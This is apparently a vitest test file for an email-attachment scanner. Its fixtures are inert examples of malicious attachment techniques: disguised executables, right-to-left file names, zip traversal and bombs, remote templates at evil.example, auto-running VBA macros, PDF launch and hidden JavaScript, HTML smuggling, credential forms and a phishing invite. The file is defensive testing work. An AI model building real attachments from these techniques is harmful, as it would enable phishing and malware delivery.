import { deflateSync, gzipSync } from "node:zlib";
import * as cfb from "cfb";
import fc from "fast-check";
import { expect, test } from "vitest";
import type { Attachment } from "../message/message.ts";
import { readMessage } from "../message/read-message.ts";
import { attach, codesOf as codes } from "../testing/attach.ts";
import { buildMessage } from "../testing/build-message.ts";
import { buildZip } from "../testing/build-zip.ts";

function ole(streams: Readonly<Record<string, Buffer | string>>): Buffer {
  const container = cfb.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) cfb.utils.cfb_add(container, path, Buffer.from(content));
  return Buffer.from(cfb.write(container, { type: "buffer" }));
}

/** A module compressed as in MS-OVBA, with literals only. */
function vbaModule(source: string): Buffer {
  const groups = source.match(/.{1,8}/gs) ?? [];
  const data = Buffer.concat(groups.map((group) => Buffer.from(`\0${group}`, "latin1")));
  const header = Buffer.alloc(2);
  header.writeUInt16LE(0x8000 | 0x3000 | (data.length - 1));
  return Buffer.concat([Buffer.from([1]), header, data]);
}

const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const office = {
  "[Content_Types].xml": "<Types/>",
  "word/document.xml": "<w:p><w:t>Pay &amp; </w:t><w:t>sign</w:t></w:p>",
};
const zip = (members: Readonly<Record<string, Buffer | string>>) =>
  buildZip(Object.entries(members).map(([name, content]) => ({ name, content })));
const pdf = (objects: string) => `%PDF-1.7\n${objects}\n%%EOF`;
const hidden = deflateSync("1 0 <</S/Java#53cript/JS(app.alert)>>");
const objectStream = `%PDF-1.7\n5 0 obj<</Type/ObjStm/Filter/FlateDecode/Length ${hidden.length}>>stream\n`;
const smuggling = "<script>var b=new Blob([atob('TVqQ')]);a.href=URL.createObjectURL(b);a.download='x.zip'</script>";

test.each<[string, string, Buffer | string, string, readonly string[]]>([
  ["a text", "notes.txt", "Notes", "text", []],
  ["a program", "setup.exe", "MZ\x90", "exe", ["executable"]],
  ["a program by another name", "scan.pdf", "MZ\x90", "exe", ["executable", "type_mismatch"]],
  ["a script", "run.js", "var a", "text", ["script"]],
  ["two extensions", "scan.pdf.js", "var a", "text", ["double_extension", "script"]],
  ["a page with a document's name", "invoice.pdf.html", "<html>a", "html", ["double_extension"]],
  ["an archive of a document", "notes.pdf.zip", zip({ "a.txt": "a" }), "zip", []],
  ["a name turned around", "inv\u202Ecod.exe", "MZ", "exe", ["executable", "right_to_left_name"]],
  ["a shortcut", "a.lnk", Buffer.from("4c0000000114020000", "hex"), "lnk", ["shortcut"]],
  ["a disk image", "a.img", "a", "text", ["container"]],
  ["a section of OneNote", "a.one", Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex"), "onenote", ["container"]],
  [
    "an encrypted archive",
    "a.zip",
    buildZip([{ name: "a.txt", content: "a", isEncrypted: true }]),
    "zip",
    ["encrypted"],
  ],
  ["an archive that climbs", "a.zip", zip({ "../a.txt": "a" }), "zip", ["path_traversal"]],
  ["an archive that swells", "a.zip", zip({ a: Buffer.alloc(2 ** 22) }), "zip", ["unpacks_too_far"]],
  ["a document", "a.docx", zip(office), "docx", []],
  ["macros", "a.docm", zip({ ...office, "word/vbaProject.bin": "" }), "docx", ["macro"]],
  [
    "a template from elsewhere",
    "a.docx",
    zip({ ...office, "word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t") }),
    "docx",
    ["remote_template"],
  ],
  [
    "a link in a document",
    "a.docx",
    zip({ ...office, "word/_rels/document.xml.rels": relation("hyperlink", "https://a.example") }),
    "docx",
    [],
  ],
  [
    "a macro sheet",
    "a.xlsm",
    zip({ "[Content_Types].xml": "", "xl/workbook.xml": "", "xl/macrosheets/sheet1.xml": "" }),
    "xlsx",
    ["excel4_macro"],
  ],
  [
    "old macros",
    "a.doc",
    ole({
      WordDocument: "x".repeat(32),
      "Macros/VBA/dir": "x",
      "Macros/VBA/One": vbaModule('Attribute VB_Name = "One"\r\nSub AutoOpen()\r\n'),
    }),
    "doc",
    ["macro", "macro_autostart"],
  ],
  ["an encrypted document", "a.docx", ole({ EncryptedPackage: "x", EncryptionInfo: "x" }), "office", ["encrypted"]],
  ["a plain PDF", "a.pdf", pdf("1 0 obj<</OpenAction[3 0 R/Fit]>>endobj"), "pdf", []],
  [
    "a PDF that opens at a page",
    "a.pdf",
    pdf("1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/GoTo/D[3 0 R]>>endobj"),
    "pdf",
    [],
  ],
  [
    "a PDF that acts",
    "a.pdf",
    pdf("1 0 obj<</OpenAction 2 0 R>>endobj 2 0 obj<</S/Launch/F(cmd.exe)>>endobj"),
    "pdf",
    ["pdf_launch", "pdf_open_action"],
  ],
  [
    "a PDF that hides its script",
    "a.pdf",
    Buffer.concat([Buffer.from(objectStream), hidden, Buffer.from("\nendstream endobj")]),
    "pdf",
    ["pdf_javascript"],
  ],
  ["an encrypted PDF", "a.pdf", pdf("trailer<</Encrypt 5 0 R>>"), "pdf", ["encrypted"]],
  ["a template of RTF", "a.rtf", String.raw`{\rtf1{\*\template https://evil.example/a}}`, "rtf", ["remote_template"]],
  ["an object of RTF", "a.rtf", String.raw`{\rtf1{\object\objemb{\*\objdata 0105}}}`, "rtf", ["embedded_object"]],
  ["a login page", "a.html", '<form action="https://evil.example"><input type=password>', "html", ["credential_form"]],
  ["a page that brings a file", "a.htm", `<html>${smuggling}`, "html", ["html_smuggling"]],
  ["a page", "a.htm", "<html><script>var a = 1</script>Hello", "html", []],
  ["a drawing with a script", "a.svg", "<svg><script>alert(1)</script></svg>", "svg", ["svg_script"]],
  ["a drawing", "a.svg", '<svg viewBox="0 0 1 1"><path d="M0 0"/></svg>', "svg", []],
])("%s: type and findings", (_, name, content, type, expected) => {
  const attachment = attach(name, content);
  expect(attachment.type.name).toBe(type);
  expect(codes(attachment)).toEqual(expected);
});

test("containers are inspected three levels deep", () => {
  const inner = zip({ "run.exe": "MZ" });
  const names = ({ name, parts }: Attachment): unknown => [name, parts.map(names)];
  expect(names(attach("a.zip", zip({ "b.zip": zip({ "c.zip": inner }) })))).toEqual([
    "a.zip",
    [["b.zip", [["c.zip", [["run.exe", []]]]]]],
  ]);
  const [gzip] = attach("a.txt.gz", gzipSync("Notes")).parts;
  expect(gzip).toMatchObject({ name: "a.txt", path: "2/1", type: { name: "text" } });
  const five = zip({ b: zip({ c: zip({ d: zip({ e: inner }) }) }) });
  const mail = readMessage(buildMessage({ text: "x", files: [{ name: "a.zip", content: five }] }));
  expect(mail.ok && mail.message.defects).toContainEqual({ code: "nested_too_deep", about: "2/1/1/1/1" });
});

test("links and text of documents are extracted", () => {
  const links = (attachment: Attachment) => attachment.links.map(({ url }) => url);
  const uri = pdf("1 0 obj<</S/URI/URI(https://a.example/\\(x\\))>>endobj 2 0 obj<</URI<68747470733a2f2f62>>>endobj");
  expect(links(attach("a.pdf", uri))).toEqual(["https://a.example/(x)", "https://b"]);
  const shown = pdf("1 0 obj<<>>stream\nBT (Scan https://c.ex) Tj [(am) -20 (ple) -400 (now)] TJ ET\nendstream endobj");
  expect(attach("a.pdf", shown)).toMatchObject({ text: "Scan https://c.example now" });
  expect(links(attach("a.pdf", shown))).toEqual(["https://c.example"]);
  expect(attach("a.docx", zip(office)).text).toBe("Pay & sign");
  expect(links(attach("a.url", "[InternetShortcut]\r\nURL=file://evil.example/a.exe\r\n"))).toEqual([
    "file://evil.example/a.exe",
  ]);
});

test("an invitation has its organizer and links", () => {
  const source = [
    "BEGIN:VCALENDAR",
    "METHOD:REQUEST",
    "BEGIN:VEVENT",
    'ORGANIZER;ROLE=CHAIR;CN="Li: Kim":mailto:kim@evil.example',
    "ATTENDEE;CN=Ola:mailto:ola@contoso.com",
    "SUMMARY:Salary\\, urgent",
    "DESCRIPTION:Open https://evil.exam",
    " ple/x now\\nKim",
    "END:VEVENT",
  ].join("\r\n");
  const attachment = attach("invite.ics", source, "text/calendar");
  expect(attachment.calendar).toEqual({
    method: "REQUEST",
    organizer: "kim@evil.example",
    organizerName: "Li: Kim",
    attendees: ["ola@contoso.com"],
    summary: "Salary, urgent",
    location: "",
    description: "Open https://evil.example/x now\nKim",
  });
  expect(attachment.links).toMatchObject([{ url: "https://evil.example/x", place: "calendar" }]);
  expect(codes(attachment)).toEqual(["calendar_invite"]);
});

test("a nested message is parsed", () => {
  const inner = buildMessage({ text: "Inside https://a.example", files: [{ name: "x.exe", content: "MZ" }] });
  const { message, type } = attach("forwarded.eml", inner, "message/rfc822");
  expect(type.name).toBe("mail");
  expect(message?.body.links.map(({ url }) => url)).toEqual(["https://a.example"]);
  expect(message?.attachments[0]?.findings.map(({ code }) => code)).toEqual(["executable"]);
});

test("damaged files of every format are read or reported as unreadable, without hanging", () => {
  const files: readonly Buffer[] = [
    zip({ ...office, "word/vbaProject.bin": ole({ "VBA/dir": "x" }) }),
    ole({ WordDocument: "x".repeat(5000), "Macros/VBA/One": vbaModule("Attribute VB_Name") }),
    Buffer.concat([Buffer.from(objectStream), hidden]),
    gzipSync("x".repeat(1000)),
    Buffer.from("Rar!\x1A\x07\x01\0".padEnd(100, "\x01\x02\x80"), "latin1"),
    Buffer.from("Rar!\x1A\x07\0".padEnd(100, "\x01\x74\x80"), "latin1"),
    Buffer.from("e4525c7b8cd8a74daeb15378d02996d3e716e3bd65261145a4c48d4d0b7a9eacffffffffffffffff", "hex"),
    Buffer.concat([Buffer.alloc(0x8000), Buffer.from("\x01CD001", "latin1"), Buffer.alloc(200, 1)]),
  ];
  const damage = fc.array(fc.tuple(fc.nat(40_000), fc.nat(255)), { maxLength: 12 });
  fc.assert(
    fc.property(fc.constantFrom(...files), damage, fc.nat(40_000), (file, changes, length) => {
      const copy = Buffer.from(file.subarray(0, 1 + (length % file.length)));
      for (const [at, byte] of changes) copy[at % copy.length] = byte;
      expect(attach("a.bin", copy).sha256).toHaveLength(64);
    }),
    { numRuns: 400 },
  );
});
